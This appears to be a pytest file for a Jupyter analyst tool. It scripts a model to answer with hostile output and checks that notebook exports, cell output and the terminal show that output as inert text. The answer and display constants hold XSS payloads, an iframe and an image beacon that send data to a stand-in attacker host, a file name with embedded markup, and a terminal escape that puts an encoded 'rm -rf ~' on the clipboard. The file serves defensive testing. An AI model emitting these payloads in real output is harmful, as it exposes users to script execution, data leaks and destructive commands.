"""The model's words and outputs, where people see them: nothing it writes runs there.

The model answers with HTML that runs when rendered (an ``<img onerror>``, a ``<script>``, a
``javascript:`` link, an ``<iframe>``, an image URL that reports what it read), names a file
with markup, fails a step with markup in its message, and has its code display every kind
of output a renderer may run. Each place that shows them is looked at as a browser would:
``%%ask``'s cell output (which JupyterLab renders as trusted), the audit notebook's markdown
cells (rendered as nbconvert renders them, raw HTML passed through), its outputs, the HTML
page ``export --to html`` writes, and the terminal ``run`` prints to.

The exported notebook says first that its cells are the model's and how to re-run them in
the sandbox, and each step cell says so again.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest

from jupyter_analyst.testing import python_step, sql_step, text_step

from .conftest import sandboxed_root, scripted

pytestmark = sandboxed_root()

ATTACKER = "attacker.example"
ANSWER = (
    "North leads with **1,204**. <img src=x onerror=alert(1)> <script>alert(2)</script> "
    f"[see the details](javascript:alert(3)) <iframe src=\"http://{ATTACKER}/frame\"></iframe>\n\n"
    f"![chart](http://{ATTACKER}/beacon.png?north=1204)\n\n[ref]: javascript:alert(4)\n"
    "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K"  # a terminal: set the clipboard, erase the line
)
#: Code that displays each kind of output a renderer may run, and writes a file named with markup.
DISPLAYS = """
from pathlib import Path
Path("outputs").mkdir(exist_ok=True)
Path("outputs/x`<img src=x onerror=alert(5)>`.csv").write_text("a\\n1\\n")

class Hostile:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {
            "text/html": "<b>5</b><img src=x onerror=alert(6)><script>alert(7)</script>",
            "application/javascript": "alert(8)",
            "text/markdown": "<img src=x onerror=alert(9)>",
            "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(10)'/>",
            "text/vnd.mermaid": "<img src=x onerror=alert(11)>",
            "text/plain": "hostile",
        }

Hostile()
"""
FAILING = "raise ValueError('<img src=x onerror=alert(12)> ```')"
SCRIPT = {"turns": [{"match": ".", "steps": [
    sql_step("SELECT region FROM regions ORDER BY region", "regions_df"),
    python_step(DISPLAYS),
    python_step(FAILING),
    text_step(ANSWER),
]}]}
#: The tags that load or run something of their own.
_ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "base", "form", "meta", "link", "svg"}


class _Findings(HTMLParser):
    """What a browser would run or fetch in an HTML fragment, tag by tag."""

    def __init__(self, page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        if tag in _ACTIVE_TAGS and not self.page:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if value.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"<{tag} {name}={value[:30]}>")
            if ATTACKER in value:
                self.found.append(f"<{tag} {name}> to the attacker")  # a beacon or a frame
        if tag == "img" and not dict(attrs).get("src", "data:").startswith("data:"):
            self.found.append(f"<img src={dict(attrs)['src']}>")  # any remote image is a beacon

    def handle_data(self, data: str) -> None:
        if self._script and "alert(" in data:  # a page's own scripts are nbconvert's; none is the model's
            self.found.append(f"<script>{data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def executable(html: str, *, page: bool = False) -> list[str]:
    """What in ``html`` would run or fetch when shown (a whole page may have scripts of its own)."""
    finder = _Findings(page)
    finder.feed(html)
    finder.close()
    return finder.found


def as_rendered(markdown: str) -> str:
    """Markdown as a renderer that passes raw HTML through renders it (nbconvert's default,
    JupyterLab's for trusted output): CommonMark with HTML on."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)


def bundle_findings(data: dict[str, Any]) -> list[str]:
    """What an output's data would run when JupyterLab renders it trusted."""
    found = [f"{mime} output" for mime in data
             if mime in ("application/javascript", "text/javascript", "image/svg+xml", "text/vnd.mermaid")]
    if "text/html" in data:
        found += executable("".join(data["text/html"]))
    if "text/markdown" in data:
        found += executable(as_rendered("".join(data["text/markdown"])))
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, sales_db) -> dict[str, Any]:
    """One turn of the attack through the real loop; its thread exported as .ipynb and .html."""
    root = tmp_path_factory.mktemp("rendering")
    with scripted(root / "ws", sales_db, SCRIPT) as runner:
        summary = runner.run("which region leads?")
    notebook = root / "audit.ipynb"
    page = root / "audit.html"
    for out in (notebook, page):
        done = subprocess.run(
            [sys.executable, "-m", "jupyter_analyst.cli", "export", "--thread", summary.thread_id,
             "--workspace", str(root / "ws"), "-o", str(out), "--to", out.suffix[1:]],
            capture_output=True, text=True, timeout=300,
        )
        assert done.returncode == 0, done.stderr
    return {"summary": summary, "notebook": notebook, "page": page, "root": root}


def test_the_attack_is_recorded_as_it_was_made(attacked):
    """The turn did what the attack needs: the answer, the outputs and the file are the model's."""
    assert attacked["summary"].answer == ANSWER.strip() or ANSWER.strip() in attacked["summary"].answer
    nb = nbformat.read(attacked["notebook"], as_version=4)
    names = [e["name"] for e in nb.metadata["jupyter_analyst"]["manifest"]]
    assert any("onerror=alert(5)" in n for n in names), names


def test_the_exported_notebook_says_its_cells_are_the_models_and_how_to_rerun_them_in_the_sandbox(attacked):
    nb = nbformat.read(attacked["notebook"], as_version=4)
    first = nb.cells[0]
    assert first.cell_type == "markdown"
    assert "written by a language model" in first.source
    assert f"jupyter analyst verify {attacked['notebook'].name}" in first.source
    assert "--engine analyst" in first.source  # papermill, pointed at the sandbox
    steps = [c for c in nb.cells if c.cell_type == "code" and "tool" in c.metadata.get("jupyter_analyst", {})]
    assert len(steps) == 2  # the query and the displays (the failed step is shown as markdown)
    for cell in steps:
        assert "model-written" in cell.metadata["tags"]
        assert cell.source.splitlines()[0].startswith("# Written by a language model")
        assert "jupyter analyst verify" in cell.source.splitlines()[0]


def test_the_exported_notebooks_markdown_and_outputs_run_nothing(attacked):
    nb = nbformat.read(attacked["notebook"], as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            assert executable(as_rendered(cell.source)) == [], cell.source
        for output in cell.get("outputs", []):
            assert bundle_findings(output.get("data", {})) == [], output
    answer = next(c for c in nb.cells if c.metadata.get("jupyter_analyst", {}).get("role") == "answer")
    # The reviewer still sees what the model wrote, as text.
    assert "<img src=x onerror=alert(1)>" in answer.source and "Shown as written" in answer.source


def test_the_html_export_runs_and_fetches_nothing_of_the_models(attacked):
    html = attacked["page"].read_text()
    assert "North leads" in html  # the answer is there, as text
    assert executable(html, page=True) == []
    assert 'data-mime-type="application/javascript"' not in html


def test_ask_shows_the_answer_without_executable_html(attacked, tmp_path, sales_db):
    """``%%ask`` in a real kernel: every output of the cell is inspected as JupyterLab
    would render it (trusted, as the cell was just run)."""
    from jupyter_analyst.testing import ScriptedModelServer
    from jupyter_analyst.testing.model_server import MODEL_NAME

    with ScriptedModelServer(SCRIPT) as server, started_kernel(tmp_path) as run:
        outputs, reply = run(f"%%ask --base-url {server.base_url} --model {MODEL_NAME} --no-summarizer "
                             f"--source {sales_db}\nwhich region leads?")
    assert reply["status"] == "ok", reply
    bundles = [o["content"]["data"] for o in outputs if "data" in o["content"]]
    for data in bundles:
        assert bundle_findings(data) == [], data
    assert not any("text/markdown" in data for data in bundles)
    (answer,) = [b for b in bundles if "North leads" in b.get("text/html", "")]
    assert "<strong>1,204</strong>" in answer["text/html"]
    assert "&lt;img src=x onerror=alert(1)&gt;" in answer["text/html"]  # shown as text, not dropped
    assert "\x1b" not in answer["text/plain"]


def test_the_terminal_shows_the_answers_escape_sequences_instead_of_obeying_them(tmp_path, sales_db):
    from jupyter_analyst.testing import ScriptedModelServer

    with ScriptedModelServer({"turns": [{"match": ".", "steps": [text_step(ANSWER)]}]}) as server:
        env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
        env.update(OPENAI_BASE_URL=server.base_url, OPENAI_API_KEY="x")
        done = subprocess.run(
            [sys.executable, "-m", "jupyter_analyst.cli", "run", "--db", str(sales_db), "--prompt", "who leads?",
             "--workspace", str(tmp_path / "ws"), "--no-summarizer"],
            capture_output=True, text=True, timeout=300, env=env,
        )
    assert done.returncode == 0, done.stderr
    assert "North leads" in done.stdout
    for stream in (done.stdout, done.stderr):
        assert "\x1b" not in stream and "\x07" not in stream
    assert "\\x1b]52;c;" in done.stdout  # shown, escaped


@contextmanager
def started_kernel(cwd: Path) -> Iterator[Any]:
    """A real ipykernel started in ``cwd`` with the extension loaded; ``run(code)`` executes
    a cell and returns its outputs and reply."""
    from jupyter_client import KernelManager

    env = {k: v for k, v in os.environ.items()
           if k not in ("JUPYTER_ANALYST_WORKSPACE", "OPENAI_API_KEY", "JPY_SESSION_NAME")}
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(Path(__file__).parents[2]), env.get("PYTHONPATH")]))
    manager = KernelManager(kernel_name="python3")
    manager.kernel_spec.argv[0] = sys.executable
    manager.start_kernel(cwd=str(cwd), env=env)
    client = manager.blocking_client()
    client.start_channels()
    client.wait_for_ready(timeout=180)

    def run(code: str) -> tuple[list[dict[str, Any]], dict[str, Any]]:
        outputs: list[dict[str, Any]] = []

        def keep(msg: dict[str, Any]) -> None:
            if msg["msg_type"] in ("stream", "display_data", "execute_result", "update_display_data", "error"):
                outputs.append(msg)

        reply = client.execute_interactive(code, output_hook=keep, timeout=180)
        return outputs, reply["content"]

    try:
        loaded = run("%load_ext jupyter_analyst")[1]
        assert loaded["status"] == "ok", json.dumps(loaded)
        yield run
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)
